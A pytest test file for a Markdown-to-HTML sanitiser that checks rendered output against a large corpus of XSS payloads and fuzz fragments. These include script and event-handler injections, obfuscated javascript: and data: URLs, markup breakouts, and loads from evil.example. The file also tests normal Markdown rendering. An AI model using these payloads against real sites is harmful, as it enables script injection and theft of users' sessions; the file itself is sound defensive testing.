"""The Markdown sanitiser (beraad.render): no script, handler, dangerous URL or active tag gets out.

DESIGN §8a item 5. The output is parsed with the standard library's html.parser, so the checks look
at real tags and attributes (with entities decoded) rather than only at substrings.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from beraad.render import render_markdown

# Never allowed, whatever ALLOWED_TAGS says: a test that can fail if someone widens the list.
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link", "form",
    "input", "button", "textarea", "select", "base", "meta", "svg", "math", "img", "video", "audio",
    "source", "noscript", "template", "xmp", "plaintext", "noembed", "noframes", "portal", "dialog",
}  # fmt: skip
SAFE_TAGS = {
    "p", "br", "hr", "em", "strong", "b", "i", "code", "pre", "blockquote", "ul", "ol", "li", "h1",
    "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "del", "sup",
    "sub",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "align"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "cite",
    "srcset", "longdesc", "lowsrc", "dynsrc", "ping", "codebase", "manifest", "icon", "profile",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
BAD_SCHEME = re.compile(r"^(javascript|data|vbscript|livescript|mocha|file|jar):")
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


class Collector(HTMLParser):
    """Collects every start tag with its (decoded) attributes, and comments."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.other.append(decl)

    def handle_pi(self, data):
        self.other.append(data)

    def unknown_decl(self, data):
        self.other.append(data)


def squash(url: str) -> str:
    """How a browser reads a URL's scheme (WHATWG URL parser), erring on the strict side.

    Leading and trailing C0 controls and spaces are stripped and tab/newline are removed anywhere;
    other control characters are removed too, to be stricter than any browser. Inner spaces stay:
    "java script:" is a relative URL, not a script.
    """
    url = url.strip(C0_AND_SPACE)
    return re.sub(r"[\x00-\x1f\x7f]+", "", url).lower()


def assert_safe(html: str) -> Collector:
    """Every invariant of a sanitised fragment; return the parse for further checks."""
    assert isinstance(html, str)
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered and "<style" not in lowered
    parser = Collector()
    parser.feed(html)
    parser.close()
    assert not parser.comments, parser.comments
    assert not parser.other, parser.other
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        assert tag in SAFE_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, html)
            assert name != "style", (tag, html)
            assert name in SAFE_ATTRIBUTES, (tag, name, html)
            if name in URL_ATTRIBUTES and value is not None:
                url = squash(value)
                assert not BAD_SCHEME.match(url), (tag, name, value)
                scheme = SCHEME.match(url)
                assert scheme is None or scheme.group(1) in SAFE_SCHEMES, (tag, name, value)
            if name == "rel":
                assert tag == "a"
        if tag == "a":
            assert ("rel", "noopener noreferrer nofollow") in attrs, (attrs, html)
    # No handler attribute anywhere that still looks like markup (e.g. `<b onclick=...>`).
    for match in re.finditer(r"<[a-z][^>]*>", lowered):
        assert not re.search(r"[\s/\"']on[a-z]+\s*=", match.group(0)), match.group(0)
        assert "style=" not in match.group(0)
    return parser


def render(text: str) -> str:
    result = render_markdown(text)
    assert isinstance(result, Markup)
    return str(result)


# --- payload corpus -----------------------------------------------------------------------------

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-in-paragraph": "Tekst <script src=//evil.example/x.js></script> meer tekst",
    "script-uppercase": "<SCRIPT>alert(1)</SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(document.cookie)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math-href": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "md-link-javascript": "[klik](javascript:alert(1))",
    "md-link-javascript-title": '[klik](javascript:alert(1) "titel")',
    "md-link-data": "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[klik](vbscript:msgbox(1))",
    "md-link-mixed-case": "[klik](JaVaScRiPt:alert(1))",
    "md-link-entity": "[klik](&#106;avascript:alert(1))",
    "md-link-reference": "[klik][ref]\n\n[ref]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-image-javascript": "![plaatje](javascript:alert(1))",
    "md-image-onerror": '![x](x" onerror="alert(1))',
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "html-a-javascript": '<a href="javascript:alert(1)">x</a>',
    "html-a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "html-a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "html-a-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;a(1)">x</a>',
    "html-a-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "html-a-named-entities": '<a href="javascript&colon;alert(1)">x</a>',
    "html-a-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "html-a-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "html-a-newline": '<a href="java\nscript:alert(1)">x</a>',
    "html-a-leading-space": '<a href="  \x01javascript:alert(1)">x</a>',
    "html-a-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "html-a-unquoted": "<a href=javascript:alert(1)>x</a>",
    "html-a-onclick": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "html-a-onmouseover": "<a href=https://example.org onmouseover=alert(1)>x</a>",
    "html-b-onclick": "<b onclick=alert(1)>vet</b>",
    "html-p-style": '<p style="background:url(javascript:alert(1))">x</p>',
    "html-style-expression": '<div style="width: expression(alert(1))">x</div>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style-tag": "<style>body { background: url(javascript:alert(1)) }</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name="wachtwoord"><button>OK</button></form>',
    "form-formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "comment-script": "<!-- <script>alert(1)</script> -->",
    "comment-conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment-unclosed": "<!-- <img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "nested-unclosed": "<div><p><b><a href='javascript:alert(1)'><i>x",
    "unclosed-attribute": '<a href="https://example.org" title="x onclick=alert(1)>y</a>',
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea-breakout": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "template": "<template><script>alert(1)</script></template>",
    "md-in-html-block": '<div markdown="1">[x](javascript:alert(1))</div>',
    "md-code-is-text": "`<script>alert(1)</script>`",
    "md-fenced-code": "```\n<script>alert(1)</script>\n```",
    "md-heading-with-html": "# Kop <img src=x onerror=alert(1)>",
    "md-table-with-html": "| a | b |\n|---|---|\n| <script>alert(1)</script> | <b onclick=x>y</b> |",
    "md-list-with-link": "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
    "null-byte": '<scr\x00ipt>alert(1)</script><a href="java\x00script:alert(1)">x</a>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "event-slash": "<img/src=x/onerror=alert(1)>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
}


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payload_is_neutralised(payload):
    html = render(payload)
    assert_safe(html)


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 25


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<style>body{}</style>",
        "<!-- <script>alert(1)</script> -->",
        "<iframe srcdoc='x'></iframe>",
    ],
)
def test_script_and_style_content_is_dropped_not_escaped_into_text(payload):
    # The content of script/style/comments disappears; it does not show up as text either.
    assert "alert" not in render(payload) and "body{}" not in render(payload)


def test_dangerous_link_keeps_its_text_but_loses_its_href():
    parser = assert_safe(render("[klik hier](javascript:alert(1))"))
    [(tag, attrs)] = [t for t in parser.tags if t[0] == "a"]
    assert "href" not in dict(attrs)
    assert "klik hier" in render("[klik hier](javascript:alert(1))")


def test_the_checker_itself_catches_dangerous_html():
    """The invariants must be able to fail: feed them unsanitised HTML."""
    for bad in [
        "<script>x</script>",
        "<b onclick=x>y</b>",
        '<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="data:text/html,x" rel="noopener noreferrer nofollow">x</a>',
        '<p style="x">y</p>',
        "<iframe></iframe>",
        "<svg></svg>",
        "<!-- x -->",
        '<a href="https://example.org">no rel</a>',
    ]:
        with pytest.raises(AssertionError):
            assert_safe(bad)


# --- normal Markdown still renders --------------------------------------------------------------


def test_emphasis_and_strong():
    html = render("Dit is *belangrijk* en **heel belangrijk**, en ~~geen~~ `code`.")
    assert "<em>belangrijk</em>" in html
    assert "<strong>heel belangrijk</strong>" in html
    assert "<code>code</code>" in html
    assert_safe(html)


def test_lists():
    html = render("Vooraf:\n\n- een\n- twee\n\n1. eerst\n2. dan\n")
    assert "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>" in html
    assert "<ol>\n<li>eerst</li>\n<li>dan</li>\n</ol>" in html
    assert_safe(html)


def test_links_get_rel_noopener_noreferrer_nofollow():
    html = render('Zie [de wet](https://wetten.overheid.nl/ "Wettenbank") of <https://example.org>.')
    parser = assert_safe(html)
    links = [dict(attrs) for tag, attrs in parser.tags if tag == "a"]
    assert links == [
        {"href": "https://wetten.overheid.nl/", "title": "Wettenbank", "rel": "noopener noreferrer nofollow"},
        {"href": "https://example.org", "rel": "noopener noreferrer nofollow"},
    ]


def test_mailto_and_relative_links_survive():
    parser = assert_safe(render("[mail](mailto:integriteit@example.org) en [pagina](/bank/x)"))
    hrefs = [dict(attrs).get("href") for tag, attrs in parser.tags if tag == "a"]
    assert hrefs == ["mailto:integriteit@example.org", "/bank/x"]


def test_tables():
    html = render("| Optie | Stemmen |\n|---|---|\n| A | 3 |\n| B | 5 |\n")
    parser = assert_safe(html)
    tags = [tag for tag, _ in parser.tags]
    for tag in ("table", "thead", "tbody", "tr", "th", "td"):
        assert tag in tags
    assert "<th>Optie</th>" in html and "<td>5</td>" in html


def test_table_column_alignment_survives():
    parser = assert_safe(render("| a | b |\n|:--|--:|\n| 1 | 2 |\n"))
    aligns = [dict(attrs).get("align") for tag, attrs in parser.tags if tag in ("th", "td")]
    assert aligns == ["left", "right", "left", "right"]


def test_headings_quotes_code_blocks_and_breaks():
    html = render("## Situatie\n\n> Een citaat\n\n    code blok\n\n---\n\nregel een  \nregel twee")
    parser = assert_safe(html)
    tags = {tag for tag, _ in parser.tags}
    assert {"h2", "blockquote", "pre", "code", "hr", "br", "p"} <= tags


def test_text_is_escaped_not_dropped():
    html = render('Een kleiner-dan teken: 3 < 5 & "aanhalingstekens" ‘typografisch’ 🙂')
    assert "3 &lt; 5 &amp;" in html
    assert "‘typografisch’ 🙂" in html
    assert_safe(html)


def test_safe_inline_html_is_kept():
    html = render("Water is H<sub>2</sub>O en E = mc<sup>2</sup>, <del>oud</del>.")
    assert "<sub>2</sub>" in html and "<sup>2</sup>" in html and "<del>oud</del>" in html


def test_empty_and_none_render_empty():
    assert render("") == ""
    assert str(render_markdown(None)) == ""


def test_output_is_markup_so_templates_do_not_escape_it_twice():
    result = render_markdown("*x*")
    assert isinstance(result, Markup)
    assert Markup("{}").format(result) == result


# --- Hypothesis fuzz ----------------------------------------------------------------------------

FRAGMENTS = [
    "<script>", "</script>", "<script", "alert(1)", "<img src=x onerror=alert(1)>", "<svg", "<svg/onload=x>",
    "<math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<iframe", "<object data=", "<embed src=",
    "<form", "<button formaction=", "<meta http-equiv=refresh content=", "<base href=", "<a href=",
    "<a href=\"", "\">", "'", '"', "`", "javascript:", "JaVaScRiPt:", "java\tscript:", "jav&#x09;ascript:",
    "&#106;avascript:", "javascript&colon;", "data:text/html,", "data:image/svg+xml,", "vbscript:",
    " onclick=", " onerror=", " onload=", " onmouseover=", " style=", "style=\"", "expression(",
    "url(", "<!--", "-->", "<![CDATA[", "]]>", "<", ">", "/>", "</", "=", "&", "&#", ";", "&lt;",
    "[", "]", "(", ")", "![", "](", "[x]: ", "\n", "\n\n", "    ", "|", "|---|", "*", "**", "_",
    "`", "```\n", "> ", "- ", "1. ", "# ", "<div markdown=\"1\">", "</div>", "<noscript>", "<textarea>",
    "<template>", "<xmp>", "<p title=\"", "xlink:href=", "srcdoc=", "<b", "<a", " ", "\x00",
]  # fmt: skip

fuzz_text = st.lists(
    st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=12)),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(fuzz_text)
@example('<a href="jav&#x09;ascript:alert(1)" onclick=x>y</a>')
@example("[x](java\tscript:alert(1))<svg/onload=x>")
def test_fuzz_rendered_markdown_is_always_safe(text):
    assert_safe(render(text))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_arbitrary_text_is_safe(text):
    assert_safe(render(text))


def test_option_badges_show_letters_or_numbers_never_words():
    from beraad.labels import option_mark

    assert [option_mark(key, n) for n, key in enumerate(["A", "B", "C"], start=1)] == ["A", "B", "C"]
    # Statements keyed eens / oneens / weet-niet: a word in a round badge spills over its text.
    assert [option_mark(key, n) for n, key in enumerate(["eens", "oneens", "weet-niet"], start=1)] == [
        "1", "2", "3",
    ]  # fmt: skip
